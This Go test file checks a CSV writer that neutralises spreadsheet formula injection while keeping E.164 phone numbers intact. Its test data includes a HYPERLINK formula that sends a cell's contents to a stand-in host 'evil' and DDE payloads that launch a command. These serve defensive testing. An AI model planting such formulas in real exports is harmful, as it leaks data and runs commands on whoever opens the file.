package spreadsheet_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"smsbot/spreadsheet"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil/?x="&A3,"Refund")`, `'=HYPERLINK("http://evil/?x="&A3,"Refund")`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"=1+1", "'=1+1"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"+", "'+"},
		{"-", "'-"},
		// E.164 numbers are what an export is for: left alone.
		{"+14155550100", "+14155550100"},
		{"+491701234567", "+491701234567"},
		{"+43", "+43"},
		{"+123456789012345", "+123456789012345"},
		// Anything else starting with + is not E.164, so it is text.
		{"+1234567890123456", "'+1234567890123456"}, // 16 digits
		{"+0123456789", "'+0123456789"},
		{"+1 (415) 555-0100", "'+1 (415) 555-0100"},
		{"+14155550100=A1", "'+14155550100=A1"},
		{"+4", "'+4"},
		// Not formula starts.
		{"", ""},
		{"Ada Lovelace", "Ada Lovelace"},
		{"'=already quoted", "'=already quoted"},
		{" =1+1", " =1+1"},
		{"a=1", "a=1"},
		{"21211", "21211"},
		{"2024-05-01T10:00:00Z", "2024-05-01T10:00:00Z"},
		{"MG0123456789abcdef0123456789abcdef", "MG0123456789abcdef0123456789abcdef"},
	}
	for _, tt := range tests {
		if got := spreadsheet.Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriterNeutralisesEveryCellAndKeepsTheRecord(t *testing.T) {
	var buf bytes.Buffer
	w := spreadsheet.NewWriter(&buf)
	rec := []string{"+14155550100", "=cmd()", "@x", "Ada"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "+14155550100,'=cmd(),'@x,Ada\n"; got != want {
		t.Fatalf("wrote %q, want %q", got, want)
	}
	if rec[1] != "=cmd()" {
		t.Fatalf("Write changed its argument: %q", rec)
	}
}

// formula is a cell a spreadsheet would evaluate; e164 one that is safe.
var (
	formula = regexp.MustCompile(`^[=+\-@\t\r]`)
	e164    = regexp.MustCompile(`^\+[1-9][0-9]{1,14}$`)
)

// FuzzWriter writes a record through Writer, reads it back as CSV and
// checks that it has the same cells, each neutralised or unchanged, and
// that none starts a formula unless it is an E.164 number.
func FuzzWriter(f *testing.F) {
	f.Add("=HYPERLINK(\"http://evil/?x=\"&A3,\"Refund\")", "+14155550100")
	f.Add("@SUM(1)", "-1")
	f.Add("\t\r\n=1", "a,\"b\"\r\nc")
	f.Fuzz(func(t *testing.T, a, b string) {
		in := []string{a, b, "end"}
		var buf bytes.Buffer
		w := spreadsheet.NewWriter(&buf)
		if err := w.Write(in); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		out, err := r.ReadAll()
		if err != nil {
			t.Fatalf("reading back %q: %v", buf.String(), err)
		}
		if len(out) != 1 || len(out[0]) != len(in) {
			t.Fatalf("read back %q, want one record of %d cells", out, len(in))
		}
		for i, got := range out[0] {
			// The CSV reader turns \r\n into \n, even in quoted cells.
			orig := strings.ReplaceAll(in[i], "\r\n", "\n")
			if got != orig && got != "'"+orig {
				t.Errorf("cell %d: wrote %q, read back %q", i, in[i], got)
			}
			if formula.MatchString(got) && !e164.MatchString(got) {
				t.Errorf("cell %d: %q reads back as %q, a formula", i, in[i], got)
			}
			if e164.MatchString(in[i]) && got != in[i] {
				t.Errorf("cell %d: E.164 number %q read back as %q", i, in[i], got)
			}
		}
	})
}
